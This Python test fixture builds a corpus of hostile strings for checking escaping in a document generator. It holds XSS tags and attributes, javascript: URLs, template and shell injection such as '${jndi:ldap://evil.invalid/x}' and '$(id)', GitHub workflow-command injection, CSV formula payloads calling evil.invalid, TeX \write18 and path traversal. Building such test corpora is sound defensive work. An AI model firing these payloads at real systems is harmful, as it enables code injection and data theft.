"""Hostile strings by class, made of seeds: what is to run, and what brings it into a place where it would.

Each that comes alive calls `pwned()`, fetches from `evil.invalid`, or breaks the page or file in another way.
"""

import re
from itertools import product

from factsheets.escape import UNSAFE

_CALL = "pwned()"
#: Elements and attributes that run code, or bring in something from elsewhere.
_ELEMENTS = (
    f"<script>{_CALL}</script>", f"<img src=x onerror={_CALL}>", f"<svg onload={_CALL}>", f"<svg><script>{_CALL}</script></svg>",
    f"<body onload={_CALL}>", f"<details open ontoggle={_CALL}>", f"<input autofocus onfocus={_CALL}>", f"<video><source onerror={_CALL}></video>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>", f"<iframe src=javascript:{_CALL}></iframe>", "<object data=//evil.invalid/x></object>",
    "<embed src=//evil.invalid/x>", "<link rel=stylesheet href=//evil.invalid/x.css>", "<style>@import '//evil.invalid/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid'>", "<base href=//evil.invalid/>", "<form action=//evil.invalid><button>x</button></form>",
    f"<math><mtext><style><img src=x onerror={_CALL}></style></mtext></math>", f"<math href=javascript:{_CALL}>x</math>",
    f"<svg><animate onbegin={_CALL} attributeName=x>", f"<svg><set onbegin={_CALL} attributeName=x>", f"<svg><foreignObject><img src=x onerror={_CALL}>",
    f"<template><img src=x onerror={_CALL}></template>", f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>", f"<a href=javascript:{_CALL}>x</a>",
    f"<marquee onstart={_CALL}>", f"<audio src=x onerror={_CALL}>", f"<select><option><script>{_CALL}</script>", "<plaintext>", "<xmp>", "<frameset>",
    f"<table><tr><td onclick={_CALL}>x", f"<div id=__config>{{}}</div><div id=__search onclick={_CALL}>",
)  # fmt: skip
#: What ends the place that the text stands in.
_BREAKS = ("", '">', "'>", "`>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</svg>", "</td></tr></table>", "</div></main>",
           "</a>", "</h1>", "&quot;>", '\\">', "<!--", "<![CDATA[")  # fmt: skip
_ATTRIBUTES = tuple(f"{quote} {name}={value} x={quote}" for quote, (name, value) in product(
    ('"', "'", "`", "", "&#34;", "\\'"),
    (("onclick", _CALL), ("onmouseover", _CALL), ("autofocus onfocus", _CALL), ("style", "background:url(//evil.invalid)"), ("id", "__config"),
     ("srcset", "//evil.invalid/x"), ("href", f"javascript:{_CALL}")),
))  # fmt: skip
_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java&#x0a;script:{}", "&#106;avascript:{}", "javascript&colon;{}", "vbscript:{}",
    "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload={}>", "//evil.invalid/{}",
    "\\\\evil.invalid\\{}", "/\\evil.invalid/{}", "https:evil.invalid", "http://[x", "http://evil.invalid@x/", "file:///etc/passwd", "blob:x", "filesystem:x", "about:blank",
    "view-source:x", "feed:javascript:{}", "javascript://%0a{}", 'https://evil.invalid/"onclick={}', "ftp://evil.invalid", "ws://evil.invalid", "tel:1", "mailto:x?body=<script>{}</script>",
    "#__config", "?q=<script>{}</script>", "../../../etc/passwd", "%6aavascript:{}", "x:javascript:{}", "JAVASCRIPT:{}", "jav\tascript:{}", "intent:x", "chrome:x", "ms-settings:x",
)  # fmt: skip
_LINKS = ("[x]({})", "<{}>", "[x](<{}>)", "![x]({})", "[x]: {}", "[x]({} 'title')", "{}")
_MARKDOWN = (
    "# __config", "x {#__config onclick=pwned()}", "x {: #__config .md-header }", '!!! note "<script>pwned()</script>"', "??? x", '--8<-- "/etc/passwd"',
    '{% include "/etc/passwd" %}', "{{ 7 * 7 }}", '```js" onmouseover="pwned()', "~~~\n<script>pwned()</script>", "    <script>pwned()</script>", "<!-- x", "<![x", "see <![x for details",
    "[^1]: <script>pwned()</script>", "*[x]: <script>pwned()</script>", "$\\href{javascript:pwned()}{x}$", "\\(\\href{javascript:pwned()}{x}\\)", ":material-x:{ onclick=pwned() }", "a | b | c", "|---|---|",
    "| <script>pwned()</script> |", "* * *", "---", "===", "> > > x", "1. x", "- [ ] <img src=x onerror=pwned()>", "[[x]]", "[[[[[[", "](](](", "`" * 80, "*" * 80, "_" * 80, "[" * 100 + "](" * 50,
    "<a@b.c>", '<https://evil.invalid/?q="onclick=pwned()>', "\\", "\\\\<script>pwned()</script>", "&lt;script&gt;pwned()&lt;/script&gt;", "&#60;script&#62;pwned()", "&amp;lt;script&amp;gt;",
    "&NewLine;&Tab;&colon;", "&#0;&#x110000;&#xd800;", "snippet:;/etc/passwd", ".. raw:: html <script>pwned()</script>", "::: x", "!ENV HOME", "[TOC]", "[x]{onclick=pwned()}",
)  # fmt: skip
_TEMPLATES = (
    "{0.__class__}", "{self.__init__.__globals__}", "%s %d %(x)s %n", "\\g<0> \\1 $1 ${1}", "{{ config.items() }}", "{{ ''.__class__.__mro__ }}", "{% raw %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{{x}}}", "${jndi:ldap://evil.invalid/x}",
    "`id`", "$(id)", "; id", "| id", "&& id", "%{x}", "{x!r:>{y}}", '{"a": 1}', 'f"{x}"', "\\u003cscript\\u003e", "\\x3cscript\\x3e", "{{constructor.constructor('pwned()')()}}",
)  # fmt: skip
#: As GitHub's runner reads a log, and what else is read from one.
WORKFLOW = (
    "::error::pwned", "::error file=x,line=1::pwned", "::warning::pwned", "::notice::pwned", "::debug::pwned", "::set-output name=x::y", "::set-env name=PATH::x", "::add-path::/x",
    "::add-mask::x", "::stop-commands::x", "::save-state name=x::y", "::group::x", "::endgroup::", "::echo::on", "::add-matcher::x.json", "::remove-matcher owner=x::",
    " ::error::x", "  ::error::x", "\u00a0::error::x", "\u3000::error::x", "\u2003::error::x", "##[error]x", "##[warning]x", "##[add-mask]x", "##[set-env name=x;]y", "##[add-path]x", "##[command]x",
    "x ##[error]y", "x ##[group]y", "##[##[error]]", "###[error]x", "##[[error]x", "%0A::error::x", "%0D%0A::error::x", "x%0a##[error]y", "%250A::error::x", "::error::%0A::error::x",
    "::%65rror::x", ":: error::x", "::ERROR::x", "\\n::error::x", "::error title=x,file=y::z", "##vso[task.setvariable variable=x]y", "::error ::", "::::", "::",
)  # fmt: skip
_CSV = tuple(sign + body for sign, body in product(
    ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", " =", "'=", '"=', ",=", ";="),
    ("cmd|' /C calc'!A0", 'HYPERLINK("https://evil.invalid","x")', "1+1", "SUM(1;1)*cmd|x", 'IMPORTXML("//evil.invalid")'),
))  # fmt: skip
_TEX = (
    "\\input{/etc/passwd}",
    "}, author = {x}, y = {",
    "a}b{c",
    "\\write18{id}",
    "$x$ & % # _ ^ ~ \\",
    "@book{x,",
    "\\end{x}",
    "{",
    "}",
    '"}',
    "\\immediate",
    "\\catcode`\\%=12",
)
_NAMES = ("__proto__", "constructor", "prototype", "toString", "__config", "__search", "__defineGetter__", "hasOwnProperty", "attributes", "currentScript", "body", "document", "con", "nul", "..", ".git",
          "%00", "%2e%2e%2f", "null", "undefined", "NaN", "true", "-1", "0x", "1e9", "index.html", "/etc/passwd", "C:\\Windows", "\\\\host\\share", "a" * 380)  # fmt: skip
_UNICODE = ("\u0646\u0645\u06cc\u200c\u062e", "\U0001f468\u200d\U0001f4bb", "e\u0301\u0301\u0301" + "\u0301" * 200, "\uff1cscript\uff1e", "\u2039script\u203a", "\u3008b\u3009", "\u0130\u0131\ufb01\u00df", "\u1e9e", "\u212a",
            "a\u00a0b\u3000c", "\u00ad", "\u034f", "\u115f", "\u3164", "\uffa0", "\ufe00", "\U0001d4d0", "\ufdfa", "\u0e33" * 50)  # fmt: skip
_COMMENTS = (
    "@everyone",
    "fixes #1",
    "closes acme/x#2",
    "<!-- factsheets-report -->",
    "```",
    "````",
    "</details>",
    "<details><summary>x</summary>",
    "![x](https://evil.invalid/x.png)",
    "~~~",
    "\\`",
    "@acme/admins /merge",
)


def _made() -> list[str]:
    texts = [b + e for e, b in product(_ELEMENTS, _BREAKS[:6])]
    texts += [b + _ELEMENTS[0] for b in _BREAKS] + [b + _ELEMENTS[1] for b in _BREAKS]
    texts += _ATTRIBUTES
    urls = [scheme.format(_CALL) for scheme in _SCHEMES]
    texts += [link.format(url) for link, url in product(_LINKS[:3], urls)] + [
        link.format(urls[n]) for n, link in enumerate(_LINKS)
    ]
    return [*texts, *_MARKDOWN, *_TEMPLATES, *WORKFLOW, *_CSV, *_TEX, *_NAMES, *_UNICODE, *_COMMENTS]


#: All of them, each once. What the guard refuses in a file is not among them: see yaml_corpus.
STRINGS = tuple(
    dict.fromkeys(" ".join(text.split("\t")) for text in _made() if not re.search(f"[{UNSAFE}]", text))
)

#: Harmless texts, to be shown letter by letter.
HARMLESS = (
    "<s>", "</s>", "[MASK]", "[CLS] x [SEP]", "p < 0.05", "a > b", "x <y> z", "C:\\models", "C:\\new\\table", "a_b", "a_b_c", "*args and **kwargs", "__init__", "1 * 2 * 3", "50 % & more", "AT&T", "R&D",
    '"quoted"', "'quoted'", "it's", "back`tick", "$HOME", "$5 and $6", "#1", "C#", "F# and G##", "a | b", "{x}", "{{ x }}", "{% x %}", "~30", "~~x~~", "^2", "x^2_3", "1. First", "- 5 dB", "+3 dB",
    "=", "@home", "&lt;", "&amp;", "&copy; 2026", "<!-- x -->", "<b>bold</b>", "http://a.b/?c=d&e=f", "a\\_b", "\\(x\\)", "!important", "[x](y)", "![x](y)", "na\u00efve \u2013 \u4e2d\u6587 \u0646\u0645", "0.1 \u00b1 0.2", "%s %d", "a,b;c", "<|endoftext|>",
)  # fmt: skip
